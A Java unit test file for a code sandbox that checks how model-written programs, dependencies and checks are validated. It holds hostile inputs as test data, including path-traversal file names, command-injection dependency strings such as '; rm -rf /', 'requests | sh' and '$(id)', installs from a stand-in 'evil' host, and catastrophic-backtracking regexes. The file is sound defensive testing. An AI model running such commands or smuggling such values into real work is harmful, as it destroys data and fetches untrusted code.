package dev.glovebox.coder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.glovebox.sandbox.Language;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Models may answer anything: nothing of it is used that could do harm outside of a box. */
class HostileAnswersTest {

    private static AnswerProgram program(String name, String text) {
        return new AnswerProgram(List.of(new AnswerFile(name, text)), name, List.of(), List.of());
    }

    private static Optional<String> problem(AnswerProgram program) {
        return program.problem(Language.PYTHON, Map.of());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "", " ", "/etc/passwd.py", "../main.py", "a/../../main.py", "./main.py", "a//b.py",
                "a/", "..", "a\\b.py", "C:\\main.py", "a\u0000.py", "a\nb.py", "\u202emain.py",
                "-c.py", "a/b/c/d/e/f/g/h/i.py", "\ud800.py"
            })
    void aFileNameThatLeadsElsewhereIsRefused(String name) {
        assertThat(problem(program(name, "print(1)\n"))).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"main.py", "data/in.py", "my file.py", "größe.py", ".hidden.py"})
    void anOrdinaryFileNameIsTaken(String name) {
        assertThat(problem(program(name, "print(1)\n"))).isEmpty();
    }

    @Test
    void whatIsRefusedIsExplained() {
        assertThat(problem(program("../x.py", "print(1)\n")))
                .get()
                .asString()
                .contains("'../x.py' is refused", "without '.', '..'");
    }

    @Test
    void thousandsOfFilesAndMegabytesOfCodeAreRefused() {
        List<AnswerFile> many =
                IntStream.range(0, 5_000)
                        .mapToObj(i -> new AnswerFile("f" + i + ".py", "x = 1\n"))
                        .toList();
        assertThat(problem(new AnswerProgram(many, "f0.py", List.of(), List.of())))
                .get()
                .asString()
                .contains("at most 50 files");
        assertThat(problem(program("main.py", "x = 1\n".repeat(500_000))))
                .get()
                .asString()
                .contains("3,000,000 bytes");
        assertThat(problem(program("a".repeat(300) + ".py", "x"))).isPresent();
    }

    @Test
    void twoFilesOfOneNameAndAFileThatIsADirectoryAreRefused() {
        AnswerFile one = new AnswerFile("main.py", "print(1)\n");
        assertThat(problem(new AnswerProgram(List.of(one, one), "main.py", List.of(), List.of())))
                .isPresent();
        AnswerFile within = new AnswerFile("main.py/x.py", "print(1)\n");
        assertThat(
                        problem(
                                new AnswerProgram(
                                        List.of(one, within), "main.py", List.of(), List.of())))
                .isPresent();
    }

    @Test
    void anEntryThatDoesNotExistIsRefused() {
        AnswerProgram program =
                new AnswerProgram(
                        List.of(new AnswerFile("a.py", "print(1)\n")),
                        "main.py",
                        List.of(),
                        List.of());
        assertThat(problem(program)).get().asString().contains("There is no file 'main.py'");
        // For a repair it may be one of those that stay.
        assertThat(program.problem(Language.PYTHON, Map.of("main.py", "import a\n"))).isEmpty();
    }

    @Test
    void argumentsThatNoProgramCanGetAreRefused() {
        for (String argument : List.of("a\u0000b", "x".repeat(5_000), "\ud800")) {
            assertThat(
                            problem(
                                    new AnswerProgram(
                                            List.of(new AnswerFile("main.py", "print(1)\n")),
                                            "main.py",
                                            List.of(),
                                            List.of(argument))))
                    .isPresent();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "--index-url http://evil",
                "--index-url=http://evil",
                "-r requirements.txt",
                "-e .",
                "git+https://evil/x.git",
                "https://evil/x.whl",
                "x @ https://evil/x.whl",
                "; rm -rf /",
                "requests; rm -rf /",
                "requests && curl evil",
                "$(id)",
                "`id`",
                "../evil",
                "./evil",
                "/tmp/evil",
                "file:evil",
                "requests\n--index-url http://evil",
                "requests==1.0 --hash=sha256:0",
                "",
                " ",
                "evil/evil",
                "a\u0000",
                "requests | sh"
            })
    void whatIsNoNameOfAPackageIsNotInstalled(String dependency) {
        assertThat(AnswerDependencies.problems(Language.PYTHON, List.of(dependency))).isNotEmpty();
        if (!dependency.equals("evil/evil")) {
            assertThat(AnswerDependencies.problems(Language.JAVASCRIPT, List.of(dependency)))
                    .isNotEmpty();
        }
        assertThat(AnswerDependencies.problems(Language.BASH, List.of(dependency))).isNotEmpty();
    }

    @Test
    void npmTakesNoRepositoriesOrAliasesEither() {
        for (String name :
                List.of(
                        "user/repo",
                        "github:user/repo",
                        "x@npm:y",
                        "x@file:../y",
                        "x@https://evil/y.tgz",
                        "@/x",
                        "@a/b/c",
                        "-g",
                        ".x")) {
            assertThat(AnswerDependencies.problems(Language.JAVASCRIPT, List.of(name)))
                    .as(name)
                    .isNotEmpty();
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "PYTHON|requests",
                "PYTHON|scikit-learn>=1.4",
                "PYTHON|numpy>=1.26,<3",
                "PYTHON|uvicorn[standard]==0.30.*",
                "PYTHON|ruamel.yaml ~= 0.18",
                "JAVASCRIPT|lodash",
                "JAVASCRIPT|lodash@^4.17.21",
                "JAVASCRIPT|@types/node@20",
                "JAVASCRIPT|left-pad@latest"
            })
    void namesWithVersionsAreInstalled(Language language, String dependency) {
        assertThat(AnswerDependencies.problems(language, List.of(dependency))).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "MATCHES|(unclosed",
                "MATCHES|(a|a)+$",
                "MATCHES|(.*a){12}b",
                "MATCHES|([0-9]+)*\\1x",
                "MATCHES|(x|x)*y",
                "EXITS|zero",
                "EXITS|-1",
                "EXITS|99999999999999",
                "EXITS|256",
                "PRINTS|' '",
                "PASSES|''"
            })
    void aCheckThatCannotBeUsedIsRefused(AnswerCheck.Kind kind, String value) {
        assertTimeoutPreemptively(
                Duration.ofSeconds(10),
                () ->
                        assertThat(new AnswerCheck(kind, value).problem(Language.PYTHON))
                                .isPresent());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "MATCHES|mean: \\d+(\\.\\d+)?",
                "MATCHES|(?m)^total\\s*=\\s*42$",
                "MATCHES|.*",
                "EXITS|0",
                "EXITS| 3 ",
                "PRINTS|42",
                "PASSES|import main"
            })
    void aCheckThatCanBeUsedIsTaken(AnswerCheck.Kind kind, String value) {
        assertThat(new AnswerCheck(kind, value).problem(Language.PYTHON)).isEmpty();
    }

    @Test
    void deepOrLongExpressionsEnd() {
        assertThat(
                        new AnswerCheck(AnswerCheck.Kind.MATCHES, "(".repeat(490))
                                .problem(Language.PYTHON))
                .isPresent();
        assertThat(
                        new AnswerCheck(AnswerCheck.Kind.MATCHES, "a".repeat(100_000))
                                .problem(Language.PYTHON))
                .isPresent();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "PYTHON|unittest.main()|false",
                "PYTHON|sys.exit(main())|false",
                "PYTHON|sys.exit( 0 )|false",
                "PYTHON|sys.exit()|false",
                "PYTHON|exit(fails)|false",
                "PYTHON|raise SystemExit|false",
                "PYTHON|sys.exit(1)|true",
                "PYTHON|sys.exit(f'bad {x}')|true",
                "PYTHON|raise SystemExit('bad')|true",
                "PYTHON|self.assertRaises(SystemExit, main.main)|true",
                "PYTHON|context.exit()|true",
                "JAVASCRIPT|process.exit(bad ? 1 : 0)|false",
                "JAVASCRIPT|process.exit()|false",
                "JAVASCRIPT|if (bad) process.exit(1)|true",
                "BASH|if true; then exit 0; fi|false",
                "BASH|exit|false",
                "BASH|if false; then exit 1; fi|true",
                "BASH|echo exit 0|true"
            })
    void aTestThatEndsItselfWithoutAFailureGoesBackToTheModel(
            Language language, String source, boolean fine) {
        assertThat(new AnswerCheck(AnswerCheck.Kind.PASSES, source).problem(language).isEmpty())
                .isEqualTo(fine);
    }

    @Test
    void aPlanWithoutAnExitCodeWantsZero() {
        AnswerPlan plan =
                new AnswerPlan(
                        "",
                        Language.JAVASCRIPT,
                        List.of(),
                        false,
                        "Print 1",
                        List.of(
                                new AnswerPlan.Input("list", "[1,2]"),
                                new AnswerPlan.Input("word", "one two"),
                                new AnswerPlan.Input("empty", ""),
                                new AnswerPlan.Input("deep", "[".repeat(100_000))),
                        ExecutionPlan.OutputKind.TEXT,
                        List.of(new AnswerCheck(AnswerCheck.Kind.PASSES, "require('./main.js')")));
        assertThat(plan.problem(Optional.empty())).isEmpty();
        assertThat(plan.plan().checks())
                .containsExactly(
                        new Check.Exits(0),
                        new Check.Passes("check-1-main.js", "require('./main.js')"));
        assertThat(plan.plan().inputs().path("list").get(1).asInt()).isEqualTo(2);
        assertThat(plan.plan().inputs().path("word").asText()).isEqualTo("one two");
        assertThat(plan.plan().inputs().path("deep").isTextual()).isTrue();
        assertThat(plan.problem(Optional.of(Language.PYTHON)))
                .get()
                .asString()
                .contains("must be PYTHON");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "'```python\nprint(1)\n```'|'print(1)\n'",
                "'\n```\nprint(1)\n```\n'|'print(1)\n'",
                "'```js\n```'|''",
                "'```python\nprint(1)\n'|'```python\nprint(1)\n'",
                "'print(1)\n'|'print(1)\n'",
                "'```'|'```'"
            })
    void fencesAroundCodeAreRemoved(String given, String code) {
        assertThat(AnswerProgram.unfenced(given)).isEqualTo(code);
    }

    @Test
    void aFencedProgramIsTakenWithoutItsFenceAndTextFilesKeepTheirs() {
        AnswerProgram program =
                new AnswerProgram(
                        List.of(
                                new AnswerFile("main.py", "```python\nprint(1)\n```"),
                                new AnswerFile("a.md", "```\nx\n```")),
                        "main.py",
                        List.of(),
                        List.of());
        assertThat(problem(program)).isEmpty();
        assertThat(program.artifact(Language.PYTHON, Map.of()).files())
                .containsEntry("main.py", "print(1)\n")
                .containsEntry("a.md", "```\nx\n```");
    }
}
